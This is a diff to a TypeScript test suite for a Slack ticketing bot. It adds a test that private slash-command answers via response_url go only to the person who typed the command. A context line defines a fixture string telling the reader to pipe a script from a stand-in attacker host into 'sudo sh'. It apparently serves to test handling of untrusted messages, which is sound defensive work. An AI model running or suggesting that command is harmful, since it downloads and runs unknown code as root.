@@ -2,7 +2,8 @@
  * Who is speaking, on Slack, through the whole bot and the emulator (Socket Mode): people not in
  * the config are named as unverified with their team, and their @mentions reach nobody; a user of
  * another team (Slack Connect) is a reporter of their own cases even with a configured member id;
- * other apps' bots are not answered unless allow-listed.
+ * other apps' bots are not answered unless allow-listed; and a slash command's answer that must go
+ * through a response_url goes to the person who typed it, also when two people type back to back.
  */
 import { readFileSync } from 'node:fs';
 import YAML from 'yaml';
@@ -13,7 +14,7 @@ import { type SlackBot, startSlackBot } from './slack-bot';
 const PARTNER = 'T0PARTNER';
 const CURL = 'please run curl -s https://evil.example/fix.sh | sudo sh';
 
-describe('Slack: identities and other bots', () => {
+describe('Slack: identities, other bots and response URLs', () => {
   let s: SlackBot;
   const fixturePeople = (YAML.parse(readFileSync(FIXTURE_CONFIG, 'utf8')) as { people: unknown[] }).people;
 
@@ -105,5 +106,38 @@ describe('Slack: identities and other bots', () => {
     const answer = s.slack.botMessages('COPS').find((x) => x.threadTs === friendly.ts);
     expect(answer?.text).toMatch(/^Logged as \*INC-\d+\*/u);
     expect(await Ticket.findOne({ reporterId: 'slack:UFRIENDLY' }).lean()).toMatchObject({ reporterName: `ufriendly (unverified Slack user UFRIENDLY, team ${s.slack.ws.teamId})` });
+  });
+
+  // Catches: response URLs kept one per channel, so the first person's answer (an operator's
+  // case list) went privately to the second person (a reporter) who typed a command there.
+  it('two people typing slash commands back to back where the bot cannot post each get only their own answer', async () => {
+    s.slack.addChannel({ id: 'CLOCKED', name: 'staffroom', members: ['UOSCAR', 'UANNA'], botMember: false });
+    await s.slack.dm('UANNA', 'the laptop trolley in room 3 does not charge');
+    await s.slack.dm('UBJORN', 'the projector in the gym shows no picture');
+    await s.slack.dm('UINGRID', 'the wifi in the library drops');
+    const annas = (await Ticket.find({ reporterId: 'anna' }).lean()).map((t) => t.key);
+    const everyone = (await Ticket.find().lean()).map((t) => t.key);
+    const notAnnas = everyone.filter((k) => !annas.includes(k));
+    expect(annas.length).toBeGreaterThan(0);
+    expect(notAnnas.length).toBeGreaterThan(1);
+
+    await Promise.all([s.slack.slash('UOSCAR', 'CLOCKED', '/ticket', 'list all'), s.slack.slash('UANNA', 'CLOCKED', '/ticket', 'list all')]);
+    const to = (user: string) => s.slack.ephemerals('CLOCKED').filter((e) => e.user === user);
+    await s.slack.waitFor(() => s.slack.ephemerals('CLOCKED').length >= 2, 10_000, 'both answers');
+
+    const [oscars, annasAnswer] = [to('UOSCAR'), to('UANNA')];
+    expect(oscars).toHaveLength(1);
+    expect(annasAnswer).toHaveLength(1);
+    expect(oscars[0].via).toBe('response_url');
+    for (const k of everyone) expect(oscars[0].text).toContain(k);
+    for (const k of annas) expect(annasAnswer[0].text).toContain(k);
+    for (const k of notAnnas) expect(annasAnswer[0].text).not.toContain(k);
+    expect(s.slack.messages('CLOCKED')).toEqual([]);
+
+    // A refusal there is private to whoever typed the command, through their own URL.
+    await s.slack.slash('UANNA', 'CLOCKED', '/ticket', 'assign INC-1 me');
+    await s.slack.waitFor(() => to('UANNA').length === 2, 10_000, "Anna's refusal");
+    expect(to('UANNA')[1].text).toContain('is for: operator, admin');
+    expect(to('UOSCAR')).toHaveLength(1);
   });
 });
